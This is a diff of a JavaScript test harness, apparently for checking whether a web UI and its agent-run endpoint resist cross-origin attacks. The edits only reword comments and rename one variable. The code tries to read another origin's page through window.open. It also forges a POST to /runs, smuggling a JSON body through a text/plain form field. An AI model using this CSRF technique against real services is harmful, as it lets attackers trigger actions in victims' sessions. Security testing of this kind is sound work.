@@ -1,4 +1,4 @@
-// Served by another origin: tries to read and to write what the browser that opens it is signed in to.
+// Served from another origin: tries to read and write with the session of the browser that opens it.
 globalThis.attack = async (address) => {
   const tried = (work) =>
     work.then(
@@ -28,13 +28,13 @@ globalThis.attack = async (address) => {
   const json = { "content-type": "application/json" };
   const other = window.open(`${address}/ui/`);
   const inside = new Promise((resolve, reject) => {
-    // until it is there, an empty page of our own is
-    const look = setInterval(() => {
+    // Until the page has loaded, the window shows an empty page of this origin.
+    const timer = setInterval(() => {
       try {
         const shown = other?.document.body?.innerText ?? "";
         if (shown !== "") resolve(shown);
       } catch (error) {
-        clearInterval(look);
+        clearInterval(timer);
         reject(error);
       }
     }, 20);
@@ -60,7 +60,7 @@ globalThis.attack = async (address) => {
 globalThis.submitForm = (address, enctype) => {
   const form = document.createElement("form");
   Object.assign(form, { method: "POST", action: `${address}/runs`, enctype });
-  // as text/plain this is a JSON body
+  // Encoded as text/plain, this is a JSON body.
   const name = '{"agent_name":"echo","parameters":{"message":"';
   form.append(Object.assign(document.createElement("input"), { name, value: 'x"}}' }));
   document.body.append(form);
